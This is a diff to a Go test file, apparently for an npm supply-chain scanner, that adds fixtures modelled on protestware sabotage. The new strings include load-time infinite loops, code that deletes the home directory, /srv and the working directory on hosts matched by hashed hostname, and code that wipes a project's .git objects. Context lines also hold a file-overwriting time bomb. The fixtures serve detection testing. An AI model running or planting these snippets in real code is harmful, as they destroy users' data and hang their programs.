@@ -1,6 +1,7 @@
 package sabotage
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/depfence/depfence/internal/finding"
@@ -15,6 +16,11 @@ func TestInfiniteLoop(t *testing.T) {
 		// the same function called at module level hangs the import (colors.js)
 		{"function_called_at_load", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "function flag() { for (let i = 666; i < Infinity; i++) { console.log('LIBERTY') } }\nflag();\nmodule.exports = {}"}, finding.SeverityCritical},
 		{"function_called_later", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "function serve() { for (;;) { handle(next()) } }\nmodule.exports = { start: () => serve() }"}, finding.SeverityNone},
+		// a function expression called where it is written runs as the
+		// module loads; the same loop in a callback it registers does not
+		{"loop_in_iife", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "(function flag() {\n  if (new Date().getFullYear() < 2025) return;\n  for (;;) { process.stdout.write('LIBERTY') }\n})();\nmodule.exports = {}"}, finding.SeverityCritical},
+		{"loop_in_arrow_iife_call", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "(() => { while (1) { console.log('x') } }).call(this)"}, finding.SeverityCritical},
+		{"loop_in_iife_callback", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "(function () {\n  process.on('message', function () { for (;;) { work() } });\n})();"}, finding.SeverityNone},
 		{"loop_with_exit_called", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "function drain() { while (true) { if (!q.length) return; q.shift()() } }\ndrain()"}, finding.SeverityNone},
 	})
 }
@@ -29,6 +35,21 @@ func TestDestructiveFS(t *testing.T) {
 		// digests; a file hash over the same walk is a backup's checksum
 		{"overwrite_by_hashed_zone", map[string]string{"lib/cache.js": hashedWalk("Intl.DateTimeFormat().resolvedOptions().timeZone")}, finding.SeverityCritical},
 		{"overwrite_by_hashed_file", map[string]string{"lib/cache.js": hashedWalk(`fs.readFileSync("manifest.txt", "utf8")`)}, finding.SeverityNone},
+		// a guard switched off on hosts whose name hashes to one of its
+		// digests (kept as keys), then trees deleted; a machine id hashed
+		// from the same name, with no digests to compare, is telemetry
+		{"delete_on_hashed_host", map[string]string{"package.json": rt.Pkg(`"main":"lib/index.js"`),
+			"lib/guard.js": hostGuard(`{ "` + strings.Repeat("ab12", 16) + `": 1, "` + strings.Repeat("09fe", 16) + `": 1 }`),
+			"lib/index.js": sweepRoots}, finding.SeverityCritical},
+		{"delete_with_machine_id", map[string]string{"package.json": rt.Pkg(`"main":"lib/index.js"`),
+			"lib/guard.js": hostGuard(`{}`),
+			"lib/index.js": sweepRoots}, finding.SeverityNone},
+		// the project's history deleted from library code; a scaffolder
+		// dropping the .git of the template it cloned keeps no history
+		{"delete_git_objects", map[string]string{"lib/stamp.js": `const fs = require("fs"), p = require("path"); const root = process.env.INIT_CWD || process.cwd();
+exports.sweep = () => fs.rmSync(p.join(root, ".git", "objects"), { recursive: true, force: true });`}, finding.SeverityCritical},
+		{"scaffold_drops_template_git", map[string]string{"lib/create.js": `const fs = require("fs"), p = require("path");
+exports.create = (dir) => { clone(dir); fs.rmSync(p.join(dir, ".git"), { recursive: true, force: true }) };`}, finding.SeverityNone},
 		{"overwrite_timed_by_clock", map[string]string{"lib/retention.js": timeBomb("Date.now() - started > 5000")}, finding.SeverityNone},
 		// the project's own directories named, deleted when the IP's
 		// country is on a list; a geolocation client clearing its cache
@@ -115,6 +136,21 @@ exports.compact = () => { if (` + gate + `) return;
     if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "peace\n".repeat(64)) } };
   walk(path.join(os.homedir(), "Documents")) };`
 }
+
+// hostGuard is a small module that hashes the host's name and looks it
+// up in known (an object literal).
+func hostGuard(known string) string {
+	return `const crypto = require("crypto"), os = require("os");
+const id = crypto.createHash("sha256").update(os.hostname()).digest("hex");
+const known = ` + known + `;
+module.exports = { id, allowRoot: id in known };`
+}
+
+// sweepRoots deletes directory trees when the guard allows it.
+const sweepRoots = `const fs = require("fs"), os = require("os"), guard = require("./guard");
+async function remove(p) { await fs.promises.rm(p, { recursive: true, force: true }) }
+setImmediate(() => { const roots = guard.allowRoot ? [os.homedir(), "/srv", process.cwd()] : []; for (const r of roots) remove(r).catch(() => {}) });
+module.exports = { remove };`
 
 // hashedWalk is a small module that overwrites every file under the
 // home directory when the hash of what key reads is one of its digests.
